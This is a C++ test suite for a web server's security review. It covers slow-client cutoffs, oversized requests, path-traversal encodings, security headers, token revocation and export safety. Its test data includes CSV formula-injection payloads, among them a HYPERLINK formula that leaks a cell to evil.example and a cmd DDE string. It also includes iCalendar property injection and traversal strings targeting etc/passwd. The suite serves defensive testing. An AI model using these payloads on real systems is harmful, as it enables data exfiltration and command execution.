// @brief The security review's claims (SECURITY.md) that a test can hold quickly: slow
// clients do not starve the workers, an unparsable or oversized request gets one answer
// and the connection ends, request size limits, static paths never leave the web
// directory, the security headers on every route (write routes and errors included),
// exports safe to open (CSV formulas, iCalendar folding and injection), a page that never
// parses text as HTML, and tokens: compared whole, revoked from the next request.
#include <arpa/inet.h>
#include <curl/curl.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <memory>
#include <regex>
#include <set>
#include <thread>

#include <catch2/catch.hpp>
#include <rapidjson/document.h>

#include "core/base/json_util.h"
#include "core/interop/csv_export.h"
#include "core/store/token.h"
#include "server/static_files.h"
#include "tests/search_support.h"
#include "tests/server_support.h"
#include "tests/store_support.h"

using namespace kindred;
using namespace std::chrono_literals;

namespace {

// A raw TCP connection, for bytes and pacing no HTTP client would produce. Reads are
// non-blocking; `received` holds everything the server sent.
class RawConnection {
 public:
  explicit RawConnection(uint16_t port) {
    fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(port);
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    REQUIRE(::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0);
    ::fcntl(fd_, F_SETFL, O_NONBLOCK);
  }
  ~RawConnection() { ::close(fd_); }
  RawConnection(const RawConnection&) = delete;
  RawConnection& operator=(const RawConnection&) = delete;

  // Best effort: a peer that has gone away just does not get the bytes.
  void send(std::string_view bytes) {
    size_t sent = 0;
    for (int tries = 0; sent < bytes.size() && tries < 1000; ++tries) {
      ssize_t n = ::send(fd_, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
      if (n > 0) {
        sent += static_cast<size_t>(n);
      } else if (n < 0 && errno == EAGAIN) {
        pollfd p{fd_, POLLOUT, 0};
        ::poll(&p, 1, 10);
      } else {
        return;
      }
    }
  }

  // Takes what has arrived; notes when the server has closed its side.
  void read_available() {
    char buf[8192];
    for (;;) {
      ssize_t n = ::recv(fd_, buf, sizeof buf, 0);
      if (n > 0) {
        received.append(buf, static_cast<size_t>(n));
      } else {
        if (n == 0 || (errno != EAGAIN && errno != EINTR)) closed = true;
        return;
      }
    }
  }

  // Reads until the server closes (true) or `timeout` passes (false).
  bool read_to_eof(std::chrono::milliseconds timeout) {
    auto deadline = std::chrono::steady_clock::now() + timeout;
    while (!closed && std::chrono::steady_clock::now() < deadline) {
      pollfd p{fd_, POLLIN, 0};
      ::poll(&p, 1, 50);
      read_available();
    }
    return closed;
  }

  std::string received;
  bool closed = false;

 private:
  int fd_ = -1;
};

size_t count_of(const std::string& text, const std::string& what) {
  size_t n = 0;
  for (size_t at = text.find(what); at != std::string::npos; at = text.find(what, at + 1)) ++n;
  return n;
}

// The header block of a raw response as an HttpResponse (names in lower case).
test::HttpResponse parse_raw(const std::string& raw) {
  test::HttpResponse r;
  if (raw.rfind("HTTP/1.", 0) == 0 && raw.size() > 12) r.status = std::atol(raw.substr(9, 3).c_str());
  size_t end = raw.find("\r\n\r\n");
  size_t line = raw.find("\r\n");
  while (line != std::string::npos && line < end) {
    size_t next = raw.find("\r\n", line + 2);
    std::string h = raw.substr(line + 2, next - line - 2);
    size_t colon = h.find(':');
    if (colon != std::string::npos) {
      std::string name = h.substr(0, colon);
      for (auto& c : name) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
      r.headers[name] = h.substr(h.find_first_not_of(' ', colon + 1));
    }
    line = next;
  }
  if (end != std::string::npos) r.body = raw.substr(end + 4);
  return r;
}

size_t collect(char* data, size_t size, size_t n, void* out) {
  static_cast<std::string*>(out)->append(data, size * n);
  return size * n;
}

// One request with a body and a bearer token, its headers kept (store_support's
// http_send keeps only the body).
test::HttpResponse send_request(uint16_t port, const std::string& method, const std::string& target,
                                const std::string& token, const std::string& body) {
  CURL* c = curl_easy_init();
  std::string url = "http://127.0.0.1:" + std::to_string(port) + target, head;
  curl_slist* headers = curl_slist_append(nullptr, "Expect:");
  if (!token.empty()) headers = curl_slist_append(headers, test::bearer(token).c_str());
  curl_easy_setopt(c, CURLOPT_URL, url.c_str());
  curl_easy_setopt(c, CURLOPT_PATH_AS_IS, 1L);
  curl_easy_setopt(c, CURLOPT_NOSIGNAL, 1L);
  curl_easy_setopt(c, CURLOPT_TIMEOUT, 20L);
  curl_easy_setopt(c, CURLOPT_HTTPHEADER, headers);
  curl_easy_setopt(c, CURLOPT_CUSTOMREQUEST, method.c_str());
  if (!body.empty()) {
    curl_easy_setopt(c, CURLOPT_POSTFIELDS, body.data());
    curl_easy_setopt(c, CURLOPT_POSTFIELDSIZE, static_cast<long>(body.size()));
  }
  std::string text;
  curl_easy_setopt(c, CURLOPT_WRITEFUNCTION, collect);
  curl_easy_setopt(c, CURLOPT_WRITEDATA, &text);
  curl_easy_setopt(c, CURLOPT_HEADERFUNCTION, collect);
  curl_easy_setopt(c, CURLOPT_HEADERDATA, &head);
  CURLcode rc = curl_easy_perform(c);
  curl_slist_free_all(headers);
  curl_easy_cleanup(c);
  test::HttpResponse r = rc == CURLE_OK ? parse_raw(head + text) : test::HttpResponse{};
  return r;
}

// An index of the fixtures plus one listing whose text tries to attack what reads the
// exports: formulas for spreadsheets, a line break and a property for calendars, long
// multi-byte text to fold.
const std::string& hostile_index() {
  static test::TempDir dir;
  static const std::string index = [] {
    rapidjson::Document doc = test::fixture_listing("fixture-moscow-bipolar-group");
    auto& a = doc.GetAllocator();
    auto set = [&](rapidjson::Value& v, const char* field, const std::string& text) {
      v[field].SetString(text.c_str(), static_cast<rapidjson::SizeType>(text.size()), a);
    };
    doc["id"].SetString("fixture-hostile-text", a);
    set(doc, "name", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\") group");
    set(doc["organization"], "name", "+cmd|' /C calc'!A0");
    std::string description = "@SUM(1+1)\nATTENDEE:mailto:evil@example.com\r\nBEGIN:VEVENT ";
    for (int i = 0; i < 40; ++i) description += "Grüße, 東京 — ";
    set(doc, "description", description);
    test::write_file(dir.file("data/hostile.json"), to_json(doc));
    std::string out = dir.file("index");
    auto r = test::run_command("cp " + test::source_path("tests/fixtures/listings") + "/* " + dir.file("data/") +
                               " && " + test::binary_path("indexer/kindred-index") + " build --data " +
                               dir.file("data") + " --out " + out);
    INFO(r.output);
    REQUIRE(r.exit_code == 0);
    return out;
  }();
  return index;
}

test::TestServer& hostile_server() {
  static test::TestServer server(hostile_index(), test::fixture_web_dir());
  return server;
}

// RFC 4180 fields of a CSV text (quoted fields, doubled quotes, CRLF records).
std::vector<std::string> csv_fields(const std::string& text) {
  std::vector<std::string> fields(1);
  bool quoted = false;
  for (size_t i = 0; i < text.size(); ++i) {
    char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') fields.back() += '"', ++i;
      else if (c == '"') quoted = false;
      else fields.back() += c;
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      fields.emplace_back();
    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      ++i;
      fields.emplace_back();
    } else {
      fields.back() += c;
    }
  }
  return fields;
}

// Checks RFC 5545 3.1 on a whole calendar: CRLF line ends only, no line over 75 octets,
// and returns the unfolded content lines.
std::vector<std::string> ics_content_lines(const std::string& ics) {
  std::vector<std::string> lines;
  size_t start = 0;
  while (start < ics.size()) {
    size_t end = ics.find("\r\n", start);
    REQUIRE(end != std::string::npos);  // the text ends with CRLF
    std::string line = ics.substr(start, end - start);
    INFO(line);
    CHECK(line.size() <= 75);
    CHECK(line.find_first_of("\r\n") == std::string::npos);  // no bare CR or LF
    if (!line.empty() && line[0] == ' ') {
      REQUIRE_FALSE(lines.empty());
      lines.back() += line.substr(1);
    } else {
      lines.push_back(line);
    }
    start = end + 2;
  }
  return lines;
}

}  // namespace

TEST_CASE("security: slow clients trickling bytes do not starve the workers, and are cut off", "[security][slow]") {
  // Two workers, 64 slow connections: 32 send a header line every 250 ms, 32 declare a
  // body and send it a byte at a time. Normal requests must still be answered meanwhile,
  // and the slow ones get 408 and are closed at the header/body timeout (10 s).
  test::TestServer server(test::fixture_index(), test::fixture_web_dir(), 2);
  constexpr int kSlow = 64;
  std::vector<std::unique_ptr<RawConnection>> slow;
  for (int i = 0; i < kSlow; ++i) {
    slow.push_back(std::make_unique<RawConnection>(server.port()));
    slow.back()->send(i % 2 ? "GET /api/v1/search?q=slow HTTP/1.1\r\nHost: x\r\n"
                            : "POST /api/v1/search HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n");
  }
  int answered = 0, attempts = 0;
  auto deadline = std::chrono::steady_clock::now() + 30s;
  auto all_closed = [&] {
    for (auto& c : slow) {
      if (!c->closed) return false;
    }
    return true;
  };
  while (std::chrono::steady_clock::now() < deadline && !(all_closed() && attempts >= 8)) {
    for (int i = 0; i < kSlow; ++i) {
      slow[i]->read_available();  // first, so that a 408 is taken before more bytes are sent
      if (!slow[i]->closed) slow[i]->send(i % 2 ? "X-Slow: 1\r\n" : "a");
    }
    auto r = server.get("/api/v1/search?q=bipolar");
    ++attempts;
    answered += r.status == 200;
    std::this_thread::sleep_for(250ms);
  }
  CHECK(attempts >= 8);
  CHECK(answered == attempts);  // every normal request was answered while they trickled
  for (int i = 0; i < kSlow; ++i) {
    INFO("slow connection " << i << " received: " << slow[i]->received.substr(0, 200));
    CHECK(slow[i]->closed);
    CHECK(slow[i]->received.rfind("HTTP/1.1 408", 0) == 0);
  }
}

TEST_CASE("security: an unparsable or oversized request gets one answer, then the connection ends",
          "[security][limits]") {
  // Without this, the rest of an oversized request (or whatever follows an unparsable
  // one) would be read as a new request and its answer given to the next request on the
  // connection, which behind a proxy reusing connections may be another person's.
  const uint16_t port = test::fixture_server().port();
  const std::string pipelined = "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n";
  struct Case {
    std::string what, bytes;
    int status;
  };
  const std::vector<Case> cases = {
      {"a 70 KB request line", "GET /api/v1/search?q=" + std::string(70000, 'a') + " HTTP/1.1\r\nHost: x\r\n\r\n", 413},
      {"a 70 KB header", "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Pad: " + std::string(70000, 'b') + "\r\n\r\n", 413},
      {"an unknown method", "BREW /pot HTTP/1.1\r\nHost: x\r\n\r\n", 400},
      {"an unknown version", "GET / HTTP/9.9\r\nHost: x\r\n\r\n", 400},
  };
  for (const auto& c : cases) {
    INFO(c.what);
    RawConnection conn(port);
    conn.send(c.bytes + pipelined);
    CHECK(conn.read_to_eof(10s));
    test::HttpResponse r = parse_raw(conn.received);
    CHECK(r.status == c.status);
    CHECK(count_of(conn.received, "HTTP/1.1 ") == 1);  // the pipelined /healthz is not answered
    CHECK(r.header("connection") == "Close");
    test::check_security_headers(r);
    CHECK_THAT(r.body, Catch::Contains("\"error\""));
  }
  // The limit is on the whole request: 60 KB of headers are still fine, and the server
  // answers normally afterwards.
  RawConnection ok(port);
  ok.send("GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX-Pad: " + std::string(60000, 'c') + "\r\n\r\n");
  ok.read_to_eof(3s);
  CHECK(parse_raw(ok.received).status == 200);
  CHECK(test::get("/healthz").status == 200);
}

TEST_CASE("security: static paths never leave the web directory, however they are encoded", "[security][static]") {
  test::TempDir dir;
  test::write_file(dir.file("web/index.html"), "page");
  test::write_file(dir.file("web/sub/page.html"), "sub");
  test::write_file(dir.file("secret.txt"), "outside");
  http::StaticFiles files(dir.file("web"));
  const std::string root = files.root() + "/";
  const std::vector<std::string> ups = {"..", "%2e%2e", "%2E%2E", ".%2e", "%2e.", "%252e%252e", "%c0%ae%c0%ae",
                                        "%e0%80%ae%e0%80%ae", "..%00", "..%2f", "..%5c", "..\\", "%5c..", "...",
                                        "....//", "..;", "%u002e%u002e", ".", "%2e", "", "sub/..", "sub/%2e%2e"};
  const std::vector<std::string> targets = {"secret.txt", "etc/passwd", "web/index.html", "%2fetc%2fpasswd"};
  size_t tried = 0;
  for (const auto& up : ups) {
    for (int depth = 1; depth <= 4; ++depth) {
      for (const auto& target : targets) {
        std::string path;
        for (int i = 0; i < depth; ++i) path += "/" + up;
        path += "/" + target;
        std::string resolved = files.resolve(path);
        INFO(path << " -> " << resolved);
        ++tried;
        CHECK((resolved.empty() || resolved.rfind(root, 0) == 0));
        CHECK(resolved.find("secret.txt") == std::string::npos);
      }
    }
  }
  CHECK(tried > 300);
  CHECK(files.resolve("/sub/page.html") == root + "sub/page.html");  // the confinement still serves files
}

TEST_CASE("security: every route answers with the security headers, write routes and errors included",
          "[security][headers]") {
  http::WriteLimits limits;
  limits.reports_burst = 1;  // so that a 429 is among the answers
  test::StoreServer s(limits);
  auto& f = s.fixture();
  const std::string listing = "fixture-moscow-bipolar-group";
  struct Call {
    std::string method, target, token, body;
  };
  const std::string big(40 * 1024, ' ');
  const std::vector<Call> calls = {
      {"GET", "/api/v1/search?q=bipolar", "", ""},
      {"GET", "/api/v1/search?page=0", "", ""},
      {"GET", "/api/v1/search?q=%ff", "", ""},
      {"GET", "/api/v1/listings/" + listing, "", ""},
      {"GET", "/api/v1/listings/" + listing + ".ics", "", ""},
      {"GET", "/api/v1/listings/NOPE", "", ""},
      {"GET", "/api/v1/places?q=83843", "", ""},
      {"GET", "/api/v1/vocabulary", "", ""},
      {"GET", "/api/v1/export/hsds?q=bipolar", "", ""},
      {"GET", "/api/v1/export/csv?q=bipolar", "", ""},
      {"GET", "/api/v1/search.csv?q=bipolar", "", ""},
      {"GET", "/api/v1/referral.ics?id=" + listing, "", ""},
      {"GET", "/healthz", "", ""},
      {"GET", "/metrics", "", ""},
      {"GET", "/", "", ""},
      {"GET", "/missing.html", "", ""},
      {"GET", "/../CMakeLists.txt", "", ""},
      {"GET", "/api/v2/nothing", "", ""},
      {"DELETE", "/api/v1/search", "", ""},
      {"GET", "/api/v1/me", "", ""},
      {"GET", "/api/v1/me", f.college, ""},
      {"GET", "/api/v1/me/listings/fixture-calgary-recovery-college", f.college, ""},
      {"GET", "/api/v1/me/listings/" + listing, f.college, ""},
      {"GET", "/api/v1/stale", f.mod, ""},
      {"POST", "/api/v1/submissions", "", "{}"},
      {"POST", "/api/v1/submissions", f.college, "not json"},
      {"POST", "/api/v1/submissions", f.college, big},
      {"POST", "/api/v1/submissions", f.college, test::submission_body("fixture-calgary-recovery-college", "Synthetic.")},
      {"GET", "/api/v1/submissions", f.mod, ""},
      {"GET", "/api/v1/submissions/1", f.mod, ""},
      {"GET", "/api/v1/submissions/999", f.mod, ""},
      {"POST", "/api/v1/submissions/1/approve", f.college, ""},
      {"GET", "/api/v1/submissions/1/approve", f.mod, ""},
      {"POST", "/api/v1/submissions/1/reject", f.mod, R"({"reason":"synthetic"})"},
      {"POST", "/api/v1/submissions/1/approve", f.mod, ""},
      {"POST", "/api/v1/listings/fixture-calgary-recovery-college/verify", f.college, ""},
      {"POST", "/api/v1/reports", "", R"({"listing_id":"fixture-moscow-bipolar-group","category":"other"})"},
      {"POST", "/api/v1/reports", "", R"({"listing_id":"fixture-moscow-bipolar-group","category":"other"})"},
      {"GET", "/api/v1/reports", f.mod, ""},
      {"POST", "/api/v1/reports/1/resolve", f.mod, ""},
      {"PUT", "/api/v1/reports", f.mod, ""},
  };
  std::set<long> statuses;
  for (const auto& c : calls) {
    auto r = send_request(s.port(), c.method, c.target, c.token, c.body);
    INFO(c.method << " " << c.target << " -> " << r.status << " " << r.body.substr(0, 200));
    REQUIRE(r.status != 0);
    CHECK(r.status < 500);
    statuses.insert(r.status);
    test::check_security_headers(r);
    if (c.target.rfind("/api/", 0) == 0) CHECK(r.header("cache-control") == "no-store");
  }
  // The list above really reaches every kind of answer.
  for (long want : {200L, 202L, 400L, 401L, 403L, 404L, 405L, 409L, 413L, 429L}) {
    INFO("status " << want);
    CHECK(statuses.count(want) == 1);
  }
}

TEST_CASE("security: CSV exports never start a cell with a formula character", "[security][export]") {
  for (const char* text : {"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"x\",\"y\"), z"}) {
    std::string cell = csv_cell(text);
    std::string unquoted = cell[0] == '"' ? csv_fields(cell)[0] : cell;
    INFO(text << " -> " << cell);
    CHECK(unquoted[0] == '\'');
  }
  auto r = hostile_server().get("/api/v1/export/csv?q=hyperlink");
  REQUIRE(r.status == 200);
  auto fields = csv_fields(r.body);
  size_t neutralised = 0;
  for (auto& field : fields) {
    if (field.rfind("\xEF\xBB\xBF", 0) == 0) field = field.substr(3);
    INFO(field);
    CHECK((field.empty() || std::string("=+-@\t\r").find(field[0]) == std::string::npos));
    neutralised += field.rfind("'=HYPERLINK", 0) == 0 || field.rfind("'+cmd", 0) == 0;
  }
  CHECK(neutralised == 2);  // the hostile name and organisation are there, as text
}

TEST_CASE("security: iCalendar exports fold at 75 octets and cannot be given new properties", "[security][export]") {
  for (const std::string target : {"/api/v1/listings/fixture-hostile-text.ics",
                                   "/api/v1/referral.ics?id=fixture-hostile-text&id=fixture-moscow-bipolar-group"}) {
    INFO(target);
    auto r = hostile_server().get(target);
    REQUIRE(r.status == 200);
    auto lines = ics_content_lines(r.body);
    bool described = false;
    for (const auto& line : lines) {
      INFO(line.substr(0, 120));
      CHECK(line.rfind("ATTENDEE", 0) != 0);  // the description's line break stayed text
      if (line.rfind("DESCRIPTION", 0) == 0 && line.find("ATTENDEE") != std::string::npos) {
        described = true;
        CHECK_THAT(line, Catch::Contains("\\nATTENDEE:mailto:evil@example.com\\n"));
        CHECK_THAT(line, Catch::Contains("Grüße\\, 東京 — "));
      }
    }
    CHECK(described);
    // The description's "BEGIN:VEVENT" is text inside a property, not an event.
    CHECK(std::count(lines.begin(), lines.end(), "BEGIN:VEVENT") == (target.find("referral") != std::string::npos ? 2 : 1));
    CHECK(std::count(lines.begin(), lines.end(), "END:VEVENT") == (target.find("referral") != std::string::npos ? 2 : 1));
  }
}

TEST_CASE("security: a revoked token is refused on the very next request", "[security][auth]") {
  test::StoreServer s;
  auto& f = s.fixture();
  REQUIRE(s.send("GET", "/api/v1/me", f.college).status == 200);
  // The token id is its public middle part: kdr_<id>_<secret>.
  std::string id = f.college.substr(4, f.college.rfind('_') - 4);
  auto r = test::run_command(test::binary_path("indexer/kindred-admin") + " --store " + f.store_path() +
                             " revoke-token " + id);
  INFO(r.output);
  REQUIRE(r.exit_code == 0);
  CHECK(s.send("GET", "/api/v1/me", f.college).status == 401);  // another process revoked it
  CHECK(s.send("POST", "/api/v1/submissions", f.college,
               test::submission_body("fixture-calgary-recovery-college", "Synthetic after revoke.")).status == 401);
  CHECK(s.send("GET", "/api/v1/me", f.voices).status == 200);  // other tokens are untouched
}

TEST_CASE("security: the page builds its DOM from text, never from HTML strings", "[security][page]") {
  // Listing text is untrusted (submissions, feeds): the page must never parse it as HTML.
  // The browser test "shows script and javascript: payloads as text" checks the result;
  // this keeps the sources free of the APIs that would parse.
  const std::regex parses(R"(innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|setAttribute\(\s*["']on)");
  size_t files = 0;
  for (const auto& e : std::filesystem::directory_iterator(test::source_path("web"))) {
    if (e.path().extension() != ".js" && e.path().extension() != ".html") continue;
    ++files;
    std::string text = test::slurp(e.path().string());
    std::smatch m;
    INFO(e.path().filename().string());
    CHECK_FALSE(std::regex_search(text, m, parses));
  }
  CHECK(files >= 5);
}

TEST_CASE("security: token hashes are compared whole, in constant time", "[security][auth]") {
  // CRYPTO_memcmp underneath (core/store/token.cpp); here only what it must answer.
  const std::string a = sha256_hex("kdr_0123456789ab_" + std::string(64, 'a'));
  std::string b = a;
  CHECK(constant_time_equal(a, b));
  b.back() = b.back() == '0' ? '1' : '0';
  CHECK_FALSE(constant_time_equal(a, b));
  b = a;
  b.front() = b.front() == '0' ? '1' : '0';
  CHECK_FALSE(constant_time_equal(a, b));
  CHECK_FALSE(constant_time_equal(a, a.substr(0, 63)));  // a prefix is not a match
  CHECK_FALSE(constant_time_equal(a, ""));
  CHECK(a.size() == 64);
}
